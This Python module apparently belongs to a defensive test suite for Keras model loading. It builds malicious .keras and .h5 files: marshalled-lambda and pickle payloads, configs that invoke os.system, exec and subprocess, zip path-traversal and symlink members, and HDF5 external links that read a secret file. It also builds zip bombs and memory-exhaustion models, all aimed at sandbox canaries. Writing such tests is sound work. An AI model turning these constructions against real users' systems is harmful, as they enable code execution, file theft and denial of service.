"""Known attacks by Keras files: what would run code, read files or fill the memory if anybody loaded them."""

import base64
import io
import json
import marshal
import pickle
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

import h5py  # noqa: TID253  these files are its own
import numpy as np
from makers import zip_bytes
from sandbox import Sandbox

Attack = Callable[[Sandbox, Path], Path]
ATTACKS: dict[str, Attack] = {}
INPUT = {
    "module": "keras.layers",
    "class_name": "InputLayer",
    "config": {"batch_shape": [None, 28, 28, 1], "dtype": "float32", "sparse": False, "name": "image"},
    "registered_name": None,
}


def attack(make: Attack) -> Attack:
    """Put a function on the list; it writes a file made from a good model, and gives its path."""
    ATTACKS[make.__name__.replace("_", " ")] = make
    return make


def layer(kind: str, module: str = "keras.layers", registered: str | None = None, **config: Any) -> dict[str, Any]:
    """One layer as Keras writes it."""
    inner = {"name": "mine"} | config
    return {"module": module, "class_name": kind, "config": inner, "registered_name": registered}


def dense(units: int = 10, **config: Any) -> dict[str, Any]:
    """The last layer."""
    return layer("Dense", units=units, activation="softmax", name="scores", **config)


def model(*layers: dict[str, Any]) -> dict[str, Any]:
    """A model of these layers, after an input."""
    config = {"name": "model", "layers": [INPUT, *layers]}
    return {"module": "keras", "class_name": "Sequential", "config": config, "registered_name": "Sequential"}


def parts(good: Path) -> dict[str, bytes]:
    """The members of a good .keras file."""
    with zipfile.ZipFile(good) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


def keras_file(box: Sandbox, good: Path, *layers: dict[str, Any]) -> Path:
    """A .keras file of these layers with a good model's weights."""
    path = box.root / "files" / "attack.keras"
    path.write_bytes(zip_bytes(parts(good) | {"config.json": json.dumps(model(*layers)).encode()}))
    return path


def h5_file(box: Sandbox, good: Path, change: Callable[[Any], None]) -> Path:
    """A good .h5 file with a change."""
    path = box.root / "files" / "attack.h5"
    path.write_bytes(good.with_suffix(".h5").read_bytes())
    with h5py.File(path, "r+") as file:
        change(file)
    return path


def weights(change: Callable[[Any], None], good: Path) -> bytes:
    """The weights of a good .keras file with a change."""
    file = io.BytesIO(parts(good)["model.weights.h5"])
    with h5py.File(file, "r+") as archive:
        change(archive)
    return file.getvalue()


def evil_code(canary: Path) -> str:
    """A function that leaves a file, as Keras has functions in its files."""
    code = compile(f"lambda x: (open({str(canary)!r}, 'w').close(), x)[1]", "evil", "eval").co_consts[0]
    return base64.b64encode(marshal.dumps(code)).decode()


class Evil:
    """Unpickled, it leaves a file."""

    def __init__(self, canary: Path) -> None:
        self.canary = str(canary)

    def __reduce__(self) -> tuple[Any, ...]:
        return open, (self.canary, "w")


@attack
def lambda_in_keras(box: Sandbox, good: Path) -> Path:
    """Marshalled code, as Keras 3 writes it."""
    code = {"class_name": "__lambda__", "config": {"code": evil_code(box.canary), "defaults": None, "closure": None}}
    return keras_file(box, good, layer("Lambda", function=code), layer("Flatten"), dense())


@attack
def lambda_as_an_activation(box: Sandbox, good: Path) -> Path:
    """Not a layer, but inside of one."""
    code = {"class_name": "__lambda__", "config": {"code": evil_code(box.canary), "defaults": None, "closure": None}}
    return keras_file(box, good, layer("Flatten"), layer("Dense", units=10, activation=code))


@attack
def lambda_in_h5(box: Sandbox, good: Path) -> Path:
    """As Keras 2 wrote it."""
    inner = {"function": [evil_code(box.canary), None, None], "function_type": "lambda", "module": "evil"}
    return h5_file(box, good, configured(model(layer("Lambda", **inner), layer("Flatten"), dense())))


def configured(config: dict[str, Any]) -> Callable[[Any], None]:
    """Puts a configuration into an .h5 file."""
    return lambda file: file.attrs.__setitem__("model_config", json.dumps(config))


@attack
def tfsm_layer(box: Sandbox, good: Path) -> Path:
    """It loads a SavedModel, a program, from a path."""
    return keras_file(box, good, layer("TFSMLayer", filepath=str(box.secret.parent), call_endpoint="serve"))


@attack
def torch_module_wrapper(box: Sandbox, good: Path) -> Path:
    """It unpickles."""
    module = base64.b64encode(pickle.dumps(Evil(box.canary))).decode()
    return keras_file(box, good, layer("TorchModuleWrapper", module=module))


@attack
def jax_layer(box: Sandbox, good: Path) -> Path:
    """Another one that brings functions along."""
    return keras_file(box, good, layer("JaxLayer", call_fn="evil.call", init_fn="evil.init"))


def _named(module: str, name: str, **config: Any) -> Attack:
    def make(box: Sandbox, good: Path) -> Path:
        filled = {key: str(value).replace("CANARY", str(box.canary)) for key, value in config.items()}
        secret = {key: value.replace("SECRET", str(box.secret)) for key, value in filled.items()}
        return keras_file(box, good, {"module": module, "class_name": name, "config": secret, "registered_name": None})

    return make


def _called(module: str, name: str) -> Attack:
    def make(box: Sandbox, good: Path) -> Path:
        function = {"module": module, "class_name": "function", "config": name, "registered_name": name}
        return keras_file(box, good, layer("Flatten"), layer("Dense", units=10, activation=function))

    return make


for _module, _name, _config in (
    ("os", "system", {"command": "touch CANARY"}),
    ("builtins", "exec", {"source": "open('CANARY', 'w')"}),
    ("builtins", "eval", {"source": "open('CANARY', 'w')"}),
    ("subprocess", "Popen", {"args": "touch CANARY"}),
    ("evil", "Layer", {}),
    ("keras.utils", "get_file", {"fname": "CANARY", "origin": "file://SECRET"}),
    ("keras.src.utils.file_utils", "get_file", {"fname": "CANARY", "origin": "file://SECRET"}),
    ("keras.src.utils.image_utils", "save_img", {"path": "CANARY", "x": "1"}),
    ("keras.src.saving.saving_lib", "load_model", {"filepath": "SECRET"}),
    ("keras.models", "load_model", {"filepath": "SECRET"}),
    ("keras.layers", "load_model", {"filepath": "SECRET"}),
    ("keras.src.models.cloning", "clone_model", {"model": "SECRET"}),
    ("keras.src.layers.core.lambda_layer", "raise_for_lambda_deserialization", {}),
    ("tensorflow.keras.utils", "get_file", {"fname": "CANARY", "origin": "file://SECRET"}),
):
    ATTACKS[f"class {_module} {_name}"] = _named(_module, _name, **_config)
    ATTACKS[f"function {_module} {_name}"] = _called(_module, _name)


@attack
def custom_object(box: Sandbox, good: Path) -> Path:
    """By the name that somebody might have registered."""
    return keras_file(box, good, layer("Evil", "builtins", "evil>Evil"))


def _lookup(kind: str) -> Attack:
    def make(box: Sandbox, good: Path) -> Path:
        inner = {"vocabulary": str(box.secret), "output_mode": "multi_hot", "max_tokens": 10}
        return keras_file(box, good, layer(kind, **inner), dense())

    return make


for _kind in ("StringLookup", "IntegerLookup", "TextVectorization", "HashedCrossing"):
    ATTACKS[f"vocabulary of {_kind} is a path"] = _lookup(_kind)


@attack
def a_loss_of_a_model_inside(box: Sandbox, good: Path) -> Path:
    """How the outer model was compiled is not looked at; how an inner one was is."""
    inner = model(layer("Flatten"), dense()) | {
        "compile_config": {"loss": {"module": "evil", "class_name": "Loss", "config": {}, "registered_name": "evil>L"}}
    }
    return keras_file(box, good, inner)


@attack
def dense_of_a_billion(box: Sandbox, good: Path) -> Path:
    """Units that no machine holds."""
    return keras_file(box, good, layer("Flatten"), dense(10**9))


@attack
def dense_of_50_gigabytes_that_does_not_say_so(box: Sandbox, good: Path) -> Path:
    """Sixteen million units are allowed by themselves; the configuration does not say how large their input is."""
    return keras_file(box, good, layer("Flatten"), dense(16_000_000))


@attack
def dense_of_5_gigabytes_that_does_not_say_so(box: Sandbox, good: Path) -> Path:
    """The machine has them, and a model may not."""
    return keras_file(box, good, layer("Flatten"), dense(1_600_000))


@attack
def convolution_kernel(box: Sandbox, good: Path) -> Path:
    """A kernel of 10,000 by 10,000."""
    return keras_file(box, good, layer("Conv2D", filters=16, kernel_size=[10_000, 10_000]), layer("Flatten"), dense())


@attack
def images_that_grow(box: Sandbox, good: Path) -> Path:
    """Without a single weight, 300 GB an image."""
    grow = layer("UpSampling2D", size=[10_000, 10_000], interpolation="nearest", name="grow")
    shrink = layer("AveragePooling2D", pool_size=[10_000, 10_000], name="shrink")
    return keras_file(box, good, grow, shrink, layer("Flatten"), dense())


@attack
def images_that_grow_to_gigabytes(box: Sandbox, good: Path) -> Path:
    """Of 32 images together, which the machine has, and a model may not."""
    grow = layer("UpSampling2D", size=[250, 250], interpolation="nearest", name="grow")
    shrink = layer("AveragePooling2D", pool_size=[250, 250], name="shrink")
    return keras_file(box, good, grow, shrink, layer("Flatten"), dense())


@attack
def rows_that_repeat(box: Sandbox, good: Path) -> Path:
    """Ten million copies of each image."""
    layers = layer("Flatten"), layer("RepeatVector", n=10_000_000, name="again")
    return keras_file(box, good, *layers, layer("GlobalAveragePooling1D", name="pool"), dense())


@attack
def an_answer_that_takes_hours(box: Sandbox, good: Path) -> Path:
    """Little memory, few layers, and windows of 40,000 pixels around each of 300,000."""
    pool = {"pool_size": [200, 200], "strides": [1, 1], "padding": "same"}
    slow = [layer("AveragePooling2D", **pool, name=f"slow{k}") for k in range(9)]
    grow, shrink = layer("UpSampling2D", size=[20, 20], name="grow"), layer("AveragePooling2D", pool_size=[20, 20])
    return keras_file(box, good, grow, *slow, shrink, layer("Flatten", name="flat"), dense())


@attack
def a_hundred_thousand_layers(box: Sandbox, good: Path) -> Path:
    """Each takes a moment to build."""
    layers = [layer("Dense", units=1, name=f"d{k}") for k in range(100_000)]
    return keras_file(box, good, layer("Flatten"), *layers, dense())


@attack
def a_configuration_of_brackets(box: Sandbox, good: Path) -> Path:
    """Parsers recurse."""
    path = box.root / "files" / "attack.keras"
    path.write_bytes(zip_bytes(parts(good) | {"config.json": b"[" * 1_000_000}))
    return path


@attack
def a_number_of_a_million_digits(box: Sandbox, good: Path) -> Path:
    """Python takes the square of that in time, if it is let."""
    config = json.dumps(model(layer("Flatten"), dense(7_000_001))).replace("7000001", "7" * 1_000_000)
    path = box.root / "files" / "attack.keras"
    path.write_bytes(zip_bytes(parts(good) | {"config.json": config.encode()}))
    return path


@attack
def zip_bomb(box: Sandbox, good: Path) -> Path:
    """A megabyte that becomes a gigabyte."""
    path = box.root / "files" / "attack.keras"
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in parts(good).items():
            if name != "model.weights.h5":
                archive.writestr(name, content)
        with archive.open("model.weights.h5", "w", force_zip64=True) as member:
            for _ in range(900):
                member.write(bytes(1 << 20))
    return path


def _member(name: str, mode: int = 0o600) -> Attack:
    def make(box: Sandbox, good: Path) -> Path:
        path = box.root / "files" / "attack.keras"
        path.write_bytes(zip_bytes(parts(good)))
        info = zipfile.ZipInfo(name.replace("CANARY", str(box.canary)))
        info.external_attr = (mode | (0o120000 if mode == 0o777 else 0o100000)) << 16
        with zipfile.ZipFile(path, "a") as archive:
            archive.writestr(info, str(box.secret))
        return path

    return make


ATTACKS["member that climbs out"] = _member("../../../work/was_here")
ATTACKS["member with a whole path"] = _member("CANARY")
ATTACKS["member that climbs out of assets"] = _member("assets/../../was_here")
ATTACKS["member that is a link"] = _member("link", 0o777)
ATTACKS["member that is a pickle"] = _member("model.pkl")


@attack
def assets_that_link_and_a_layer_that_reads_them(box: Sandbox, good: Path) -> Path:
    """Keras unpacks assets where a layer wants them."""
    path = keras_file(box, good, layer("StringLookup", name="words"), dense())
    info = zipfile.ZipInfo("assets/layers/words/vocabulary.txt")
    info.external_attr = 0o120777 << 16
    with zipfile.ZipFile(path, "a") as archive:
        archive.writestr(info, str(box.secret))
    return path


def _elsewhere(change: Callable[[Any, Path], None], *, archive: bool) -> Attack:
    def make(box: Sandbox, good: Path) -> Path:
        if not archive:
            return h5_file(box, good, lambda file: change(file, box.secret))
        path = box.root / "files" / "attack.keras"
        member = {"model.weights.h5": weights(lambda file: change(file, box.secret), good)}
        path.write_bytes(zip_bytes(parts(good) | member))
        return path

    return make


def _replaced(file: Any, how: Callable[[Any, str, tuple[int, ...]], None]) -> None:
    """The first set of numbers becomes something else."""
    numbers: list[str] = []
    file.visititems(lambda name, value: numbers.append(name) if isinstance(value, h5py.Dataset) else None)
    shape = file[numbers[0]].shape
    del file[numbers[0]]
    how(file, numbers[0], shape)


def _virtual(file: Any, name: str, shape: tuple[int, ...], secret: Path) -> None:
    layout = h5py.VirtualLayout(shape, "f4")
    layout[:] = h5py.VirtualSource(str(secret), "x", shape=shape)
    file.create_virtual_dataset(name, layout)


def _external_storage(file: Any, name: str, shape: tuple[int, ...], secret: Path) -> None:
    file.create_dataset(name, shape, "u1", external=[(str(secret), 0, int(np.prod(shape)))])


def _compressed(file: Any, name: str, shape: tuple[int, ...]) -> None:  # noqa: ARG001  another shape on purpose
    file.create_dataset(
        name, (200, 1 << 20), "f4", chunks=(1, 1 << 20), compression="gzip", data=np.zeros((1, 1 << 20))
    )


for _archive, _where in ((False, "h5"), (True, "keras")):
    ATTACKS[f"external link in {_where}"] = _elsewhere(
        lambda file, secret: _replaced(
            file, lambda f, name, _: f.__setitem__(name, h5py.ExternalLink(str(secret), "/x"))
        ),
        archive=_archive,
    )
    ATTACKS[f"external storage in {_where}"] = _elsewhere(
        lambda file, secret: _replaced(file, lambda f, name, shape: _external_storage(f, name, shape, secret)),
        archive=_archive,
    )
    ATTACKS[f"virtual numbers in {_where}"] = _elsewhere(
        lambda file, secret: _replaced(file, lambda f, name, shape: _virtual(f, name, shape, secret)), archive=_archive
    )
    ATTACKS[f"numbers that nobody wrote in {_where}"] = _elsewhere(
        lambda file, _: _replaced(
            file, lambda f, name, __: f.create_dataset(name, (1 << 14, 1 << 14), "f4", chunks=(1, 1 << 14))
        ),
        archive=_archive,
    )
    ATTACKS[f"numbers of a trillion in {_where}"] = _elsewhere(
        lambda file, _: _replaced(
            file, lambda f, name, __: f.create_dataset(name, (10**6, 10**6), "f4", chunks=(1, 10**4))
        ),
        archive=_archive,
    )
    ATTACKS[f"pickled text in {_where}"] = _elsewhere(
        lambda file, _: _replaced(
            file, lambda f, name, __: f.create_dataset(name, data=[b"x"] * 3, dtype=h5py.string_dtype())
        ),
        archive=_archive,
    )
